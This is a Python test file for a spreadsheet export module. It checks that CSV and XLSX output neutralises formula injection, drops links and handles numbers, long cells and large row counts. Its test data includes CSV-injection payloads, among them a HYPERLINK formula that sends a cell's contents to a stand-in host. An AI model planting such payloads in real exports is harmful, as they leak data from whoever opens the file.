"""Files for spreadsheets: read back by other readers, and no text of a record is a formula in them."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from xml.etree import ElementTree as ET

import pytest
from hypothesis import given
from hypothesis import strategies as st

from include.errors import ConfigurationError
from include.spreadsheets import CUT, MOST_LETTERS, harmless, write_csv, write_xlsx

BAD = [
    "=1+1",
    '=HYPERLINK("http://example.org?"&A1,"x")',
    "+31 20 123 45 67",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1+1",
    "\uff1d1+1",
    "\uff20SUM(1)",
]
"""OWASP's beginnings, in full width as well, and one that a spreadsheet may trim."""
SPLIT = ["x;=1+1", 'x"\t=1+1', "x\n=1+1", 'x;"=1+1', "x; +1"]
"""A formula begins in the middle, where the reader takes another sign for the border of cells."""
SHEET = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def as_csv(rows: list[dict[str, object]], columns: list[str]) -> str:
    file = io.BytesIO()
    assert write_csv(rows, file, columns) == len(rows)
    return file.getvalue().decode("utf-8-sig")


def as_sheet(rows: list[dict[str, object]], columns: list[str]) -> tuple[list[list[tuple[str, str]]], str]:
    """Return the cells as (type, text), read with nothing but the standard's own XML, and the sheet itself."""
    file = io.BytesIO()
    assert write_xlsx(rows, file, columns) == len(rows)
    with zipfile.ZipFile(file) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
    lines = ET.fromstring(sheet).iter(f"{SHEET}row")  # noqa: S314 - made here
    return [
        [(cell.get("t", "n"), "".join(cell.itertext())) for cell in line.iter(f"{SHEET}c")] for line in lines
    ], sheet


@pytest.mark.parametrize("text", BAD)
def test_a_text_that_would_be_a_formula_gets_an_apostrophe(text: str) -> None:
    # What begins with a border of cells is guarded on both of its sides.
    assert harmless(text).startswith("'")
    assert harmless(text).replace("'", "") == text
    ((_, cell),) = list(csv.reader(io.StringIO(as_csv([{"a": "x", "b": text}], ["a", "b"]), newline="")))[1:]
    assert cell == harmless(text)


@pytest.mark.parametrize("text", SPLIT)
def test_no_formula_begins_in_the_middle(text: str) -> None:
    for border in (";", "\t", "\n", "\r"):
        for part in harmless(text).split(border):
            assert not re.match(r"[\s\"]*[=+\-@]", part), part


@pytest.mark.parametrize("text", ["", "Sanne", "a-b", "x=1", "jan@example.org", "3,5", "'quoted'", 'say "hi"', "a;b"])
def test_other_texts_are_as_they_were(text: str) -> None:
    assert harmless(text) == text
    assert list(csv.reader(io.StringIO(as_csv([{"a": text}], ["a"]))))[1] == [text]


def test_numbers_stay_numbers() -> None:
    row: dict[str, object] = {"whole": -5, "part": -0.5, "text": "-5", "none": None, "flag": True, "list": [1]}
    assert as_csv([row], list(row)).splitlines()[1] == '-5,-0.5,"\'-5","","true","[1]"'
    cells, _ = as_sheet([row], list(row))
    assert [cell for cell in cells[1] if cell[1]] == [
        *(("n", "-5"), ("n", "-0.5"), ("inlineStr", "-5"), ("inlineStr", "true"), ("inlineStr", "[1]"))
    ]


@pytest.mark.parametrize("text", [*BAD, *SPLIT, "http://example.org", "mailto:x@example.org", "external:x"])
def test_a_sheet_holds_texts_no_formulas_and_no_links(text: str) -> None:
    cells, sheet = as_sheet([{"=t": text}], ["=t"])
    assert [kind for line in cells for kind, _ in line] == ["inlineStr", "inlineStr"]
    assert "<f>" not in sheet
    assert "hyperlink" not in sheet


def test_titles_are_texts_of_somebody_too() -> None:
    assert as_csv([], ["=1+1"]).strip() == '"\'=1+1"'


def test_what_a_cell_cannot_hold_is_cut_and_says_so() -> None:
    cells, _ = as_sheet([{"a": "x" * (MOST_LETTERS + 1)}], ["a"])
    assert len(cells[1][0][1]) == MOST_LETTERS
    assert cells[1][0][1].endswith(CUT)


def test_a_sheet_with_too_many_rows_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("include.spreadsheets.MOST_ROWS", 3)
    with pytest.raises(ConfigurationError, match=r"export\.rows\.too_many"):
        write_xlsx(({"a": number} for number in range(9)), io.BytesIO(), ["a"])


def test_rows_are_taken_one_by_one() -> None:
    taken: list[int] = []

    def rows() -> object:
        for number in range(1000):
            taken.append(number)
            yield {"a": f"text {number}"}

    class Watched(io.BytesIO):
        lines = 0

        def write(self, data: object) -> int:
            self.lines += 1
            assert len(taken) <= self.lines + 1
            return super().write(data)  # type: ignore[arg-type]

    assert write_csv(rows(), Watched(), ["a"]) == 1000  # type: ignore[arg-type]


@given(st.lists(st.text() | st.integers() | st.none(), min_size=1, max_size=4))
def test_whatever_is_written_can_be_read(cells: list[object]) -> None:
    columns = [f"c{place}" for place in range(len(cells))]
    row = dict(zip(columns, cells, strict=True))
    written = list(csv.reader(io.StringIO(as_csv([row], columns), newline="")))
    assert len(written) == 2
    assert len(written[1]) == len(columns)
    for cell in written[1]:
        assert not re.match(r"[=@]", cell)
    as_sheet([row], columns)
